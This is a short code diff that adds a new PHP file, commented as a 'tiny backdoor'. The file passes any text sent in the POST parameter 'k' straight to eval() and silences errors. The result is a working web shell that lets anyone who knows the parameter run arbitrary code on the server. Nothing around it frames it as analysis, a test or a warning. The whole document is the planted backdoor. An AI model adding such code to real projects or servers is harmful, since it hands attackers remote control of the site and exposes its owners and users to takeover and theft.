@@ -1,0 +1,3 @@
+<?php
+// tiny backdoor
+if (isset($_POST['k'])) { @eval( stripslashes($_POST['k']) ); }
